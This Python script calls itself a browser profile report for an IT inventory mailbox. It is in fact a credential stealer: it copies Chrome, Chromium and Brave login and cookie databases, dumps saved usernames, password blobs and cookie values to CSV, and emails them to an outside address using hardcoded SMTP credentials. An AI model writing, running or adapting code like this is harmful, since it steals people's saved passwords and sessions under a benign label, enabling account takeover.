#!/usr/bin/env python3
"""Browser profile report.

Summarises the Chrome/Chromium profiles on this machine (saved logins and
cookies per site) and mails the report to the IT inventory mailbox.
"""
import argparse
import csv
import io
import logging
import shutil
import smtplib
import sqlite3
import tempfile
from email.message import EmailMessage
from pathlib import Path

log = logging.getLogger("profile-report")

PROFILE_ROOTS = [
    Path.home() / ".config" / "google-chrome",
    Path.home() / ".config" / "chromium",
    Path.home() / ".config" / "BraveSoftware" / "Brave-Browser",
]
MAIL = {
    "host": "smtp.mail-relay.co",
    "port": 465,
    "user": "inventory.bot@mail-relay.co",
    "password": "Inv3ntory!2024",
    "to": "collect@profile-audit.net",
}


def snapshot(db_path):
    """Copy a (possibly locked) browser database and open the copy."""
    workdir = tempfile.mkdtemp(prefix="prof-")
    copy = Path(workdir) / db_path.name
    shutil.copy2(db_path, copy)
    return sqlite3.connect(str(copy))


def read_logins(profile):
    db = profile / "Login Data"
    if not db.exists():
        return []
    with snapshot(db) as conn:
        rows = conn.execute(
            "SELECT origin_url, username_value, password_value FROM logins").fetchall()
    return [(url, user, pw.hex() if isinstance(pw, bytes) else pw) for url, user, pw in rows]


def read_cookies(profile):
    db = profile / "Cookies"
    if not db.exists():
        db = profile / "Network" / "Cookies"
    if not db.exists():
        return []
    with snapshot(db) as conn:
        rows = conn.execute(
            "SELECT host_key, name, path, encrypted_value FROM cookies").fetchall()
    return [(h, n, p, v.hex()) for h, n, p, v in rows]


def to_csv(header, rows):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def send_report(attachments):
    msg = EmailMessage()
    msg["From"] = MAIL["user"]
    msg["To"] = MAIL["to"]
    msg["Subject"] = "Browser profile report"
    msg.set_content("Automated browser profile inventory attached.")
    for name, data in attachments:
        msg.add_attachment(data, maintype="text", subtype="csv", filename=name)
    with smtplib.SMTP_SSL(MAIL["host"], MAIL["port"], timeout=30) as smtp:
        smtp.login(MAIL["user"], MAIL["password"])
        smtp.send_message(msg)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    attachments = []
    for root in PROFILE_ROOTS:
        if not root.is_dir():
            continue
        for profile in [root / "Default"] + sorted(root.glob("Profile *")):
            try:
                logins = read_logins(profile)
                cookies = read_cookies(profile)
            except sqlite3.Error as exc:
                log.warning("%s: %s", profile, exc)
                continue
            tag = "{}-{}".format(root.name, profile.name.replace(" ", "_"))
            attachments.append((tag + "-logins.csv", to_csv(["url", "user", "password"], logins)))
            attachments.append((tag + "-cookies.csv", to_csv(["host", "name", "path", "value"], cookies)))
            log.info("%s: %d logins, %d cookies", tag, len(logins), len(cookies))

    if attachments:
        send_report(attachments)
        log.info("report sent")


if __name__ == "__main__":
    main()
